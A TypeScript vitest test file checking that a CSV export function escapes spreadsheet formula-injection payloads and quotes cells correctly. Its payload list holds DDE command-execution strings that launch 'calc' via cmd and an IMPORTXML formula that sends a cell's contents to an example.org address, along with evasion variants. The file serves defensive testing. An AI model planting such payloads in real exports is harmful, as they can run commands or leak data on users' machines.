import { expect, test } from 'vitest'

import { csvRow, guardedRow } from './csv.ts'

const payloads = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '+1',
  '-1',
  '@SUM(A1)',
  ' =1',
  '\t=1',
  '\r=1',
  '\n=1',
  '   @x',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\uff1d1',
  '\uff0b1',
  '\uff0d1',
  '\uff20x',
  "'=1",
  '\t',
  '\r',
  '=HYPERLINK("http://example.org","x")',
  '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  '%0A-1',
  '=1\n=2',
  '=DDE("cmd";"/C calc";"x")',
  '-2+3+cmd|" /C calc"!A0',
  "@'x",
  '+"x"',
]

test.each(payloads)('%j is no formula afterwards, and reads back as it was', (payload) => {
  const row = guardedRow(['reason'], [payload])
  const [cell = '', escaped] = cellsOf(row)
  expect(cell).not.toMatch(/^\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/u)
  expect(escaped === 'reason' ? cell.slice(1) : cell).toBe(payload)
})

test.each(['INC-2291', 'peak = 5', 'a+b', '', '5', 'né', 'x@example.org'])('%j is left as it is', (text) => {
  expect(guardedRow(['reason'], [text])).toBe(csvRow([text, '']))
})

test('quotes are doubled, lines stay inside their cell', () => {
  expect(csvRow(['a "b"', 'c\nd', 'e,f'])).toBe('"a ""b""","c\nd","e,f"\r\n')
})

test('the columns that were guarded are named', () => {
  expect(cellsOf(guardedRow(['a', 'b', 'c'], ['=1', 'x', '-2']))).toEqual(["'=1", 'x', "'-2", 'a c'])
})

/** As a reader of RFC 4180 takes a row apart. */
function cellsOf(row: string): string[] {
  return [...row.slice(0, -2).matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))
}
